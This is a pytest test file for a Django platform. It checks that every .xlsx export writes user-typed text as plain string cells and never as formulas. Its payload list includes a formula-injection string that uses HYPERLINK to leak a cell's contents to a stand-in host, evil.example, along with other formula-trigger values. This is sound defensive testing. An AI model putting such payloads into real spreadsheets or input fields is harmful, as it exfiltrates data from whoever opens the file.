"""Formula injection: every text cell a user typed is written as text, never as a formula, in every .xlsx the
platform writes (yaohai.core.xlsx is the one helper; the events list, the dashboards' tables, the roster, the
grid tree and the assessment sheet all go through it)."""

from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grids import services as grid_services
from yaohai.core.xlsx import build_sheet

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+1", "-1+1", "@SUM(A1)", "#N/A", "=1+1"]


def _cells(content: bytes):
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text(content: bytes, payloads=PAYLOADS):
    cells = _cells(content)
    for payload in payloads:
        found = [c for c in cells if c.value == payload]
        assert found, f"{payload!r} is not in the sheet as written"
        assert all(c.data_type == "s" for c in found), f"{payload!r} is a {found[0].data_type} cell"
    assert not [c for c in cells if c.data_type in ("f", "e")], "a formula or error cell"


def test_the_ledger_writes_every_string_as_text():
    rows = [[p, 1] for p in PAYLOADS] + [["铃\x07声\x0b", 2]]
    content = build_sheet(PAYLOADS[0], ["标题", PAYLOADS[1]], rows, groups=[(PAYLOADS[2], 2)])
    _assert_text(content)
    assert "铃声" in [c.value for c in _cells(content)]  # characters a sheet cannot hold are dropped, not a 500
    assert [c.value for c in _cells(content) if c.value == 1] and all(
        c.data_type == "n" for c in _cells(content) if c.value == 1
    )


@pytest.mark.django_db
def test_the_events_export_writes_typed_titles_as_text(ev, client_for):
    for payload in PAYLOADS:
        ev.report(title=payload)
    response = client_for("A/S1/C1:grid_head").get(reverse("events:export"))
    assert response.status_code == 200
    _assert_text(response.content)


@pytest.mark.django_db
def test_the_tree_export_and_the_roster_write_typed_names_as_text(world, client_for):
    community = world.node("A/S1/C2")
    for payload in PAYLOADS:
        grid_services.create_node(parent=community, subkind="resident", name=payload)
    worker = world.user("A/S1/C2/G1:grid_worker")
    worker.display_name = PAYLOADS[0]
    worker.save()
    admin = client_for("A:admin")
    tree = admin.get(reverse("admin:grids_gridnode_tree_export"))
    assert tree.status_code == 200
    _assert_text(tree.content)
    roster = client_for("A/S1:grid_head").get(reverse("grids:roster-export", args=[world.nodes["A/S1/C2"].pk]))
    assert roster.status_code == 200
    _assert_text(roster.content, PAYLOADS[:1])
